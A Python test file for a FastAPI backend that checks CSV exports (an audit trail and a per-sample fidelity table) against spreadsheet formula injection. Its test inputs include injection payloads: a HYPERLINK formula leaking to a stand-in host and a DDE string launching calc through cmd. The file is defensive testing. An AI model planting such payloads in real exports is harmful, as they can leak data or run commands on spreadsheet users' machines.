"""No CSV the API writes carries a live spreadsheet formula (issue 32): a text cell starting with
``= + - @``, a tab or a carriage return gets a single-quote prefix; numbers, negative ones included, stay
numbers. Through the API: the team's audit trail and a fidelity job's per-sample table."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from fastapi.testclient import TestClient

from backend.contracts import RESULT_FIDELITY_SUMMARY
from backend.db.models import Job, JobResult, SampleDivergence
from backend.db.session import session_factory
from backend.settings import Settings
from tests.support.accounts import TestAccount

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak","y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["vision", "a=b", "x-ray", "'quoted"]


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_project_names_in_the_audit_trail_are_not_formulas(client: TestClient, account: TestAccount) -> None:
    created = {}
    for name in HOSTILE + HARMLESS:
        response = client.post("/api/v1/projects", json={"name": name})
        if response.status_code == 201:
            created[response.json()["id"]] = response.json()["name"]
    stored = set(created.values())
    assert {n for n in HOSTILE if n[0] in "=+-@"} <= stored  # the formula starts are legal names
    rows = _rows(client.get(f"/api/v1/teams/{account.team_id}/audit.csv"))
    names = {r["resource_id"]: r["project_name"] for r in rows if r["action"] == "project.created"}
    assert set(names) == set(created)
    for project_id, name in created.items():
        expected = "'" + name if name[0] in "=+-@\t\r" else name
        assert names[project_id] == expected, (name, names[project_id])
    assert any(name[0] in "\t\r" for name in stored) or not any(
        n in stored for n in HOSTILE[4:]
    )  # tab/CR names are either kept (and quoted above) or refused, never written bare
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values()), row


def test_output_names_in_the_sample_table_are_not_formulas(
    client: TestClient, project: dict[str, str], settings: Settings
) -> None:
    outputs = [*HOSTILE, "logits"]
    with session_factory(settings.resolved_database_url)() as session:
        job = Job(
            project_id=uuid.UUID(project["id"]), kind="fidelity", params={}, status="succeeded", attempts=1
        )
        session.add(job)
        session.flush()
        session.add(JobResult(job_id=job.id, key=RESULT_FIDELITY_SUMMARY, payload={}))
        session.add_all(
            SampleDivergence(
                job_id=job.id,
                output_name=name,
                sample_index=0,
                kl=0.25,
                cosine=-0.5,  # a negative number stays a number
                mse=1e-3,
                sqnr_db=-3.0,
                top1_match=False,
                golden_class=1,
                compressed_class=2,
                label=None,
                flagged=True,
                finite=True,
            )
            for name in outputs
        )
        session.commit()
        job_id = job.id
    rows = _rows(client.get(f"/api/v1/jobs/{job_id}/fidelity/samples.csv"))
    written = sorted(r["output_name"] for r in rows)
    assert written == sorted("'" + n if n != "logits" else n for n in outputs)
    assert {r["cosine"] for r in rows} == {"-0.5"} and {r["sqnr_db"] for r in rows} == {"-3.0"}
    one = _rows(client.get(f"/api/v1/jobs/{job_id}/fidelity/samples.csv", params={"output": HOSTILE[0]}))
    assert [r["output_name"] for r in one] == ["'" + HOSTILE[0]]
